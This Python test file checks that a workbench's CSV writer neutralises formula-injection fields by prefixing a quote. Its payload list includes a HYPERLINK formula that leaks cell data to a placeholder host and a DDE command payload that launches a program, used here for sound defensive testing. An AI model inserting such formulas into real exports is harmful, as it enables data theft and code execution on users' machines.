"""CSV injection (OWASP): no CSV field the workbench writes is a spreadsheet formula.

``workbench.common.text.csv_cell`` is the Python copy of the report's CSV-button rule
(``assets/tables.js``, tested in a browser in ``test_browser.py``); the calibration writer
applies it to every field.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from workbench.common.text import csv_cell
from workbench.sim.calibrate import write_csv

PAYLOADS = ['=HYPERLINK("http://x/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-1+2",
            "@SUM(A1)", "\t=1+2", "\r=1+2", "  =1+2", "-", "--", "+", "=", "@"]


@pytest.mark.parametrize("text", [p for p in PAYLOADS if p != "-"])
def test_formula_fields_get_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-0.12", "+0.12", "-1.5e-3", "1.5E+3", "-12%", "-.5", "-3.", "0",
                                  "-", "base", "judge-a", "a=b", "1+2", "", " ", "'=x", "\u22120.12"])
def test_numbers_the_dash_and_plain_text_unchanged(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("text", ["-0.12 [-0.3, 0.1]", "+1.42 [-0.53, +3.36] (12)", "-1,234",
                                  "-inf", "-nan", "-0x1F", "- 1"])
def test_a_cell_that_only_starts_like_a_number_is_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_non_strings_pass_through() -> None:
    assert [csv_cell(v) for v in (None, -1, -0.5, True)] == [None, -1, -0.5, True]


def test_calibration_csv_fields_are_neutralised(tmp_path: Path) -> None:
    rows = [{"method": "=cmd|' /C calc'!A0", "rate": -0.0123, "sets": 1000, "note": "@SUM(A1)"},
            {"method": "t", "rate": 0.05, "sets": -3, "note": None}]
    path = tmp_path / "c.csv"
    write_csv(path, ["method", "rate", "sets", "note"], rows)
    with path.open(newline="", encoding="utf-8") as fh:
        got = list(csv.reader(fh))
    assert got == [["method", "rate", "sets", "note"],
                   ["'=cmd|' /C calc'!A0", "-0.0123", "1000", "'@SUM(A1)"],
                   ["t", "0.0500", "-3", ""]]
    with pytest.raises(KeyError):
        write_csv(path, ["method", "absent"], rows)
    write_csv(path, ["method", "absent"], rows, missing="")
    assert path.read_text(encoding="utf-8") == "method,absent\n'=cmd|' /C calc'!A0,\nt,\n"
